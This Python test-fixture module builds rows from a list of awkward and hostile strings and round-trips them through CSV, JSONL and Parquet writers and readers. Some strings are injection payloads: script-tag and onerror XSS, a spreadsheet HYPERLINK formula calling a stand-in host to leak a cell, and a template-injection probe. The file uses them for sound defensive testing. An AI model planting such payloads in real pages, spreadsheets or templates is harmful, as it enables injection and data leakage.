"""Logs of harmful texts, in every format; and tables that are read back."""

import csv
import io
import json
import unicodedata
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

HOSTILE = [
    "line\nbreak",
    "line\r\nbreak",
    "nul\0byte",
    "nul\0byte\0",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1",
    "@SUM(A1)",
    "x" * 65_536,
    "x" * 65_535 + "y",
    unicodedata.normalize("NFC", "é"),
    unicodedata.normalize("NFD", "é"),
    "NaN",
    "null",
    "007",
    "7",
    "1.0",
    " padded ",
    "padded",
    '"quoted"',
    "a,b",
    "\ufeffmark",
    "\x1b[31mred\x1b[0m",
    "\u202eright to left",
    "[bold]markup[/bold] :smile:",
    "{{ 7*7 }}",
    "\U0001f600",
    "\u2028",
]


def write_csv(path: Path, rows) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(rows[0].keys())
        writer.writerows(row.values() for row in rows)


def write_jsonl(path: Path, rows) -> None:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


def write_parquet(path: Path, rows) -> None:
    pq.write_table(pa.Table.from_pylist(rows), path)


def read_csv(path: Path):
    csv.field_size_limit(1 << 20)
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def read_jsonl(path: Path):
    return [json.loads(line) for line in path.read_bytes().decode().split("\n") if line]


def read_parquet(path: Path):
    return pq.read_table(path).to_pylist()


WRITERS = {"csv": write_csv, "jsonl": write_jsonl, "parquet": write_parquet}
READERS = {"csv": read_csv, "jsonl": read_jsonl, "parquet": read_parquet}


def hostile_rows():
    """Each text as an id, a source, a connection and a queue of its own. Then every receipt comes once more."""
    rows = [
        {
            "received_at": 1_000 + index,
            "unique_message_id": text,
            "message_source_id": text,
            "connection_id": text,
            "destination": f"queue://{text}",
        }
        for index, text in enumerate(HOSTILE)
    ]
    return [*rows, *({**row, "received_at": 2_000} for row in rows)]
